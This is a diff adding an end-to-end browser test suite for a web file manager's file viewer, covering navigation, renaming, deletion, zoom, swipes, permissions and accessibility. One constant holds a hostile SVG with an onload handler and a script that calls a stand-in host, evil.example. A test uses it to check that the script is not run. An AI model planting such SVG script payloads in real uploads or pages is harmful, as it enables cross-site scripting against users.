@@ -1,0 +1,247 @@
+import { existsSync, readdirSync } from 'node:fs'
+import { mkdir, writeFile } from 'node:fs/promises'
+import path from 'node:path'
+import type { Page } from 'playwright-core'
+import { beforeEach, expect, test } from 'vitest'
+import { rowOf, signIn } from '../kit/browser.ts'
+import { rotatedJpeg } from '../kit/images.ts'
+import { ada, ann, bea } from '../kit/run-server.ts'
+import { atRoot, eventually, expectFocusInside, focusOf, violationsIn } from './journeys.ts'
+
+const photo = await rotatedJpeg(800, 600)
+const hostile =
+  '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="parent.hacked = 1">' +
+  '<script>parent.hacked = 1; fetch("https://evil.example/")</script><rect width="40" height="40"/></svg>'
+
+const nameShown = (page: Page) => page.locator('[data-part="file"] h1').innerText()
+const imageOf = (page: Page) => page.locator('[data-part="file"] img[data-loaded]')
+const widthOf = async (page: Page) => Math.round((await imageOf(page).boundingBox())?.width ?? 0)
+
+atRoot({ files: {}, people: [ada, ann, bea] }, ({ server, window }) => {
+  const at = (...names: readonly string[]): string => path.join(server().folder, ...names)
+  let visits = 0
+  /** Fills a new folder and opens it. */
+  const openFolder = async (
+    files: Readonly<Record<string, string | Uint8Array>>,
+    { person = ann, ...options }: Parameters<typeof window>[0] & { readonly person?: typeof ann } = {},
+  ): Promise<{ readonly page: Page; readonly folder: string }> => {
+    const folder = `album ${(visits += 1)}`
+    await mkdir(at(folder))
+    for (const [name, content] of Object.entries(files)) await writeFile(at(folder, name), content)
+    const page = await window(options)
+    await signIn(page, server(), person)
+    await page.goto(`${server().url}/files/${encodeURIComponent(folder)}/`)
+    await rowOf(page, Object.keys(files)[0] ?? '').waitFor()
+    return { page, folder }
+  }
+  beforeEach(() => server().cli('users', 'update', ann.name, '--viewMode', 'list'))
+
+  test('the arrows go through the files of a folder in the order of the listing, and Escape returns to the row', async () => {
+    const names = ['2 b#?&+.jpg', '10 a%2Fb.jpg', '😀.jpg']
+    const { page } = await openFolder({
+      ...Object.fromEntries(names.map((name) => [name, photo])),
+      'notes.txt': '',
+    })
+    await rowOf(page, '2 b#?&+.jpg').dblclick()
+    await imageOf(page).waitFor()
+    await page.getByText('1 of 3').waitFor()
+    await expectFocusInside(page)
+    for (const [key, name] of [
+      ['ArrowRight', '10 a%2Fb.jpg'],
+      ['Enter', '😀.jpg'],
+      ['ArrowRight', '😀.jpg'],
+      ['Home', '2 b#?&+.jpg'],
+      ['End', '😀.jpg'],
+      ['ArrowLeft', '10 a%2Fb.jpg'],
+    ] as const) {
+      await page.keyboard.press(key)
+      await eventually(() => nameShown(page), name)
+      await imageOf(page).waitFor()
+    }
+    expect(decodeURIComponent(page.url())).toContain('/10 a%2Fb.jpg')
+    await page.getByRole('button', { name: 'Next file' }).click()
+    await eventually(() => nameShown(page), '😀.jpg')
+    await page.reload()
+    await page.getByText('3 of 3').waitFor()
+    expect(await page.getByRole('button', { name: 'Next file' }).getAttribute('aria-disabled')).toBe('true')
+    await page.keyboard.press('Escape')
+    await eventually(() => focusOf(page), 'MAIN 😀.jpg')
+  })
+
+  test('a held arrow key does not rush through the files', async () => {
+    const { page } = await openFolder(
+      Object.fromEntries(Array.from({ length: 9 }, (_, at) => [`${at + 1}.jpg`, photo])),
+    )
+    await rowOf(page, '1.jpg').dblclick()
+    await imageOf(page).waitFor()
+    await page.getByText('1 of 9').waitFor()
+    await page.evaluate(() => {
+      for (let at = 0; at < 20; at += 1)
+        document.body.dispatchEvent(
+          new KeyboardEvent('keydown', {
+            key: 'ArrowRight',
+            repeat: at > 0,
+            bubbles: true,
+            cancelable: true,
+          }),
+        )
+    })
+    await eventually(() => nameShown(page), '2.jpg')
+    await imageOf(page).waitFor()
+    expect(await nameShown(page)).toBe('2.jpg')
+  })
+
+  test('F2 renames the open file, and its address follows', async () => {
+    const { page, folder } = await openFolder({ 'old.jpg': photo, 'other.jpg': photo })
+    await rowOf(page, 'old.jpg').dblclick()
+    await imageOf(page).waitFor()
+    await page.keyboard.press('F2')
+    await page.getByRole('dialog').getByRole('textbox').fill('zoo.jpg')
+    await page.keyboard.press('Enter')
+    await page.waitForURL('**/zoo.jpg')
+    await eventually(() => nameShown(page), 'zoo.jpg')
+    await page.getByText('2 of 2').waitFor()
+    expect(readdirSync(at(folder)).toSorted()).toEqual(['other.jpg', 'zoo.jpg'])
+  })
+
+  test('after a deletion the next file is shown, else the previous one, else the folder', async () => {
+    const { page, folder } = await openFolder({ 'a.jpg': photo, 'b.jpg': photo, 'c.jpg': photo })
+    await rowOf(page, 'b.jpg').dblclick()
+    for (const [shown, next] of [
+      ['b.jpg', 'c.jpg'],
+      ['c.jpg', 'a.jpg'],
+    ] as const) {
+      await eventually(() => nameShown(page), shown)
+      await imageOf(page).waitFor()
+      await page.keyboard.press('Delete')
+      await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click()
+      await eventually(() => nameShown(page), next)
+      expect(existsSync(at(folder, shown))).toBe(false)
+    }
+    await page.getByText('1 of 1').waitFor()
+    await page.getByRole('button', { name: 'Delete', exact: true }).click()
+    await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click()
+    await page.getByText('It feels lonely here...').waitFor()
+    expect(readdirSync(at(folder))).toEqual([])
+  })
+
+  test('a deletion that the server refuses leaves the file open and says why', async () => {
+    const { page } = await openFolder({ 'a.jpg': photo, 'b.jpg': photo })
+    await rowOf(page, 'a.jpg').dblclick()
+    await imageOf(page).waitFor()
+    await page.route(/\/api\/resources\/.*a\.jpg/, (route) =>
+      route.request().method() === 'DELETE'
+        ? route.fulfill({ status: 423, headers: { 'X-Error': 'busy' }, body: '423 Locked\n' })
+        : route.continue(),
+    )
+    await page.keyboard.press('Delete')
+    await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click()
+    await page
+      .locator('[data-part="notices"]')
+      .getByText(/a\.jpg was not deleted/)
+      .waitFor()
+    expect(await nameShown(page)).toBe('a.jpg')
+  })
+
+  test('an image is zoomed by the wheel, keys and double clicks, and is moved and rotated', async () => {
+    const { page } = await openFolder({ 'photo.jpg': await rotatedJpeg(2400, 1800) })
+    await rowOf(page, 'photo.jpg').dblclick()
+    await imageOf(page).waitFor()
+    const fitted = await widthOf(page)
+    const hasScale = (scale: number) =>
+      eventually(async () => Math.abs((await widthOf(page)) - fitted * scale) <= 2, true)
+    await page.mouse.move(700, 400)
+    await page.mouse.wheel(0, -100)
+    await hasScale(1.25)
+    await page.keyboard.press('0')
+    await hasScale(1)
+    for (const scale of [2, 4, 1]) {
+      await page.mouse.dblclick(700, 400)
+      await hasScale(scale)
+    }
+    for (let times = 0; times < 6; times += 1) await page.keyboard.press('-')
+    await hasScale(0.25)
+    await page.keyboard.press('0')
+    await page.keyboard.press('+')
+    const before = await imageOf(page).boundingBox()
+    await page.mouse.down()
+    await page.mouse.move(700, 440, { steps: 3 })
+    await page.mouse.up()
+    await eventually(async () => ((await imageOf(page).boundingBox())?.y ?? 0) > (before?.y ?? 0), true)
+    await page.getByRole('button', { name: 'Rotate' }).click()
+    await eventually(async () => {
+      const box = await imageOf(page).boundingBox()
+      return box !== null && box.height > box.width !== (before?.height ?? 0) > (before?.width ?? 0)
+    }, true)
+  })
+
+  test('the arrows at the sides hide while the mouse rests', async () => {
+    const { page } = await openFolder({ 'a.jpg': photo, 'b.jpg': photo })
+    await rowOf(page, 'a.jpg').dblclick()
+    const next = page.getByRole('button', { name: 'Next file' })
+    const opacity = () => next.evaluate((button) => getComputedStyle(button).opacity)
+    await next.waitFor()
+    await page.mouse.move(600, 500)
+    await eventually(opacity, '1')
+    await eventually(opacity, '0')
+    await page.mouse.move(620, 500)
+    await eventually(opacity, '1')
+  })
+
+  test('on a phone a swipe leads to the next file, and a swipe down closes it', async () => {
+    const { page } = await openFolder(
+      { 'a.jpg': photo, 'b.jpg': photo },
+      { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true },
+    )
+    const cdp = await page.context().newCDPSession(page)
+    const swipe = async (x: number, y: number) => {
+      await cdp.send('Input.dispatchTouchEvent', { type: 'touchStart', touchPoints: [{ x: 200, y: 400 }] })
+      await cdp.send('Input.dispatchTouchEvent', {
+        type: 'touchMove',
+        touchPoints: [{ x: 200 + x, y: 400 + y }],
+      })
+      await cdp.send('Input.dispatchTouchEvent', { type: 'touchEnd', touchPoints: [] })
+    }
+    await rowOf(page, 'a.jpg').tap()
+    await imageOf(page).waitFor()
+    await page.getByText('1 of 2').waitFor()
+    await swipe(-150, 5)
+    await eventually(() => nameShown(page), 'b.jpg')
+    await imageOf(page).waitFor()
+    await swipe(0, 150)
+    await rowOf(page, 'b.jpg').waitFor()
+  })
+
+  test('a hostile drawing does not act, and a file without a viewer offers its download', async () => {
+    const { page } = await openFolder({ 'evil.svg': hostile, 'unknown.xyz': new Uint8Array([0, 1, 2, 255]) })
+    await rowOf(page, 'evil.svg').dblclick()
+    await imageOf(page).waitFor()
+    expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false)
+    await page.keyboard.press('ArrowRight')
+    await page.getByText('Preview is not available for this file.').waitFor()
+    const download = page.waitForEvent('download')
+    await page.locator('[data-part="file"]').getByRole('button', { name: 'Download' }).click()
+    expect((await download).suggestedFilename()).toBe('unknown.xyz')
+  })
+
+  test('a person without permissions is offered neither the actions nor the content', async () => {
+    const { page } = await openFolder({ 'a.jpg': photo }, { person: bea })
+    await rowOf(page, 'a.jpg').dblclick()
+    await page.getByText('Preview is not available for this file.').waitFor()
+    await page.keyboard.press('Delete')
+    await page.keyboard.press('F2')
+    for (const name of ['Rename', 'Delete', 'Download', 'Open file'])
+      expect([name, await page.getByRole('button', { name, exact: true }).count()]).toEqual([name, 0])
+    expect(await page.getByRole('dialog').count()).toBe(0)
+  })
+
+  test.each(['light', 'dark'] as const)(
+    'an open image has no violation that axe reports, %s',
+    async (colorScheme) => {
+      const { page } = await openFolder({ 'a.jpg': photo, 'b.jpg': photo }, { colorScheme })
+      await rowOf(page, 'a.jpg').dblclick()
+      await imageOf(page).waitFor()
+      expect(await violationsIn(page, colorScheme)).toEqual([])
+    },
+  )
+})
